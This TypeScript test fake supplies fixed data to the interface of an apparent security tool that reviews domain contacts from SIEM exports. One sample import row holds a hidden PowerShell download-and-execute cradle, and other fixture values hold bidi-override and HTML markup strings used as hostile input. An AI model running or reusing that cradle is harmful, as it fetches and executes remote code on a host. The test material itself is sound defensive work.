import type { Engine, ImportListener } from '../../src/engine/engine';
import type { DomainPage, DomainQuery, DomainRow, Overview, ReviewChange, StudyReading } from '../../src/engine/readings';
import type { Settings } from '../../src/engine/settings';
import { UserError } from '../../src/base/user-error';
import type { AnalysisSummary, Storage, StoredAnalysis } from '../../src/storage/storage';
import { detailOf, emptyGroup, endlessRow, knownRows, now, steps } from './fake-data';

/** What a scene wants the engine to hold and do. */
export interface FakeWorld {
  readonly overview: Overview;
  readonly rows: readonly DomainRow[];
  /** More rows than `rows`, made as they are asked for. */
  readonly endlessCount: number;
  /** The import stops here and never ends. */
  readonly importStops: 'never' | 'underway' | 'asking';
  readonly importFails: boolean;
  readonly readingsFail: boolean;
}

/** An engine that holds fixed readings: enough for every view to be drawn and pressed. */
export class FakeEngine implements Engine {
  #overview: Overview;

  constructor(readonly world: FakeWorld) {
    this.#overview = world.overview;
  }

  async importFiles(files: readonly File[], listener: ImportListener): Promise<Overview> {
    const bytesTotal = 1_284_118_004;
    const progress = (bytesRead: number, records: number) =>
      listener.onProgress({ bytesRead, bytesTotal, records, file: files[0]?.name ?? '', filesDone: 1, filesTotal: 4 });
    if (this.world.importStops === 'underway') {
      progress(0, 0);
      await new Promise((resolve) => setTimeout(resolve, 900));
      progress(541_220_118, 1_301_442);
      return new Promise(() => undefined);
    }
    if (this.world.importStops === 'asking') {
      const header = ['Zeit', 'Rechner', 'Ziel <b>', 'Befehl', '', 'Anzahl'];
      const row = ['2024-06-01 08:12:44', 'WS-0417', 'raw.githubusercontent.com', '-nop -w hidden -c "IEX (New-Object Net.WebClient)…"', 'x\u202ey', '3'];
      await listener.askMapping({ fileName: 'export aus dem SIEM.csv', header, rows: Array.from({ length: 12 }, () => row), guess: { time: 0, host: 1, destination: 2, count: 5 } });
    }
    if (this.world.importFails) throw new Error('the reader fell over on purpose');
    return this.#overview;
  }

  cancelImport(): void {}

  async overview(): Promise<Overview> {
    return this.#overview;
  }

  async study(id: string): Promise<StudyReading> {
    if (this.world.readingsFail) throw new UserError('LimitReached', 'The study: more domains than this page can hold.');
    const group = this.#overview.groups.find((one) => one.id === id) ?? emptyGroup;
    const rows = group.baseDomains === 0 ? [] : this.world.rows;
    return {
      group,
      distribution: { connections: steps(group.baseDomains === 0 ? 2 : 180, 2_282_308), meanPerFqdn: steps(group.baseDomains === 0 ? 2 : 140, 163_022) },
      topDomains: rows.toSorted((a, b) => b.connections - a.connections).slice(0, 10),
      lookFirst: rows.toSorted((a, b) => b.score - a.score).slice(0, 10),
    };
  }

  async domains(query: DomainQuery): Promise<DomainPage> {
    const { endlessCount } = this.world;
    if (endlessCount > 0 && query.search === '') {
      const length = Math.max(0, Math.min(query.limit, endlessCount - query.offset));
      return { total: endlessCount, matching: endlessCount, offset: query.offset, rows: Array.from({ length }, (_, index) => endlessRow(query.offset + index)) };
    }
    const rows = this.world.rows
      .filter((row) => row.baseDomain.includes(query.search))
      .filter((row) => query.rarity === 'all' || row.rare === (query.rarity === 'rare'))
      .filter((row) => query.verdict === 'all' || (query.verdict === 'mixed' ? row.judgement.mixed : row.judgement.verdict === query.verdict))
      .toSorted((a, b) => (query.descending ? -1 : 1) * compare(a, b, query));
    return { total: this.world.rows.length, matching: rows.length, offset: query.offset, rows: rows.slice(query.offset, query.offset + query.limit) };
  }

  async domain(_group: string, baseDomain: string) {
    const row = [...this.world.rows, ...knownRows].find((one) => one.baseDomain === baseDomain) ?? endlessRow(0);
    const detail = detailOf(row);
    return this.#overview.basis === 'snapshot' ? { ...detail, hosts: null, users: null, arguments: [], argumentsCount: 0 } : detail;
  }

  async setSettings(settings: Settings): Promise<Overview> {
    return (this.#overview = { ...this.#overview, settings });
  }

  async setFilter(filter: Overview['filter']): Promise<Overview> {
    return (this.#overview = { ...this.#overview, filter });
  }

  async rename(name: string): Promise<void> {
    this.#overview = { ...this.#overview, name };
  }

  async review(changes: readonly ReviewChange[]): Promise<readonly ReviewChange[]> {
    for (const { verdict, ...change } of changes) {
      const others = this.#overview.reviews.filter((one) => one.level !== change.level || one.domain !== change.domain || one.arguments !== change.arguments);
      this.#overview = { ...this.#overview, reviews: verdict === null ? others : [...others, { ...change, verdict, at: now }] };
    }
    return changes.map((change) => ({ ...change, verdict: null }));
  }

  async reviews() {
    return this.#overview.reviews;
  }

  async removeList(id: string): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.#overview.lists.filter((list) => list.id !== id) });
  }

  async restoreList(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.world.overview.lists });
  }

  async setListKind(id: string, kind: 'intel' | 'allow'): Promise<Overview> {
    return (this.#overview = { ...this.#overview, lists: this.#overview.lists.map((list) => (list.id === id ? { ...list, kind } : list)) });
  }

  async exportSnapshot(): Promise<Blob> {
    return new Blob(['{}']);
  }

  async keep() {
    return { events: null, labels: new Blob(['{}']), overview: this.#overview };
  }

  async open(): Promise<Overview> {
    return this.#overview;
  }

  async clear(): Promise<Overview> {
    return (this.#overview = { ...this.#overview, contacts: 0, groups: [], receipts: [], lists: [], reviews: [] });
  }
}

function compare(a: DomainRow, b: DomainRow, { sort }: DomainQuery): number {
  const [x, y] = sort === 'verdict' ? [a.judgement.verdict, b.judgement.verdict] : [a[sort] ?? 0, b[sort] ?? 0];
  return x < y ? -1 : x > y ? 1 : 0;
}

/** A storage in memory, with some analyses in it. */
export function fakeStorage(kind: 'kept' | 'memory', summaries: readonly AnalysisSummary[], full = false): Storage {
  let kept = [...summaries];
  let removed: AnalysisSummary | undefined;
  return {
    kind,
    list: async () => kept,
    load: async (id) => {
      const summary = kept.find((one) => one.id === id);
      return summary ? ({ ...summary, events: null, labels: new Blob(['{}']) } as unknown as StoredAnalysis) : null;
    },
    save: async (analysis) => {
      if (full) throw new UserError('StorageFailed', 'The browser has no room left for this page.');
      kept = [...kept.filter((one) => one.id !== analysis.id), analysis];
    },
    rename: async (id, name) => {
      kept = kept.map((one) => (one.id === id ? { ...one, name } : one));
    },
    remove: async (id) => {
      removed = kept.find((one) => one.id === id);
      kept = kept.filter((one) => one.id !== id);
    },
    restore: async () => {
      if (removed) kept = [...kept, removed];
    },
    mapping: async () => null,
    rememberMapping: async () => undefined,
    preference: async () => null,
    setPreference: async () => undefined,
  };
}

export const keptSummaries: readonly AnalysisSummary[] = [
  { id: 'a1', name: 'Acme, June to December 2024', createdAt: now - 9 * 86_400_000, modifiedAt: now - 86_400_000, contacts: 3_220_829, reviewed: 37, malicious: 10, basis: 'events' },
  { id: 'a2', name: 'Lab 4104 test', createdAt: now - 40 * 86_400_000, modifiedAt: now - 12 * 86_400_000, contacts: 8_114, reviewed: 0, malicious: 0, basis: 'events' },
  { id: 'a3', name: 'From Kim: \u202e<b>weird</b> name that goes on and on and on until it has to be cut somewhere', createdAt: now - 86_400_000, modifiedAt: now - 7_200_000, contacts: 0, reviewed: 12, malicious: 4, basis: 'snapshot' },
];
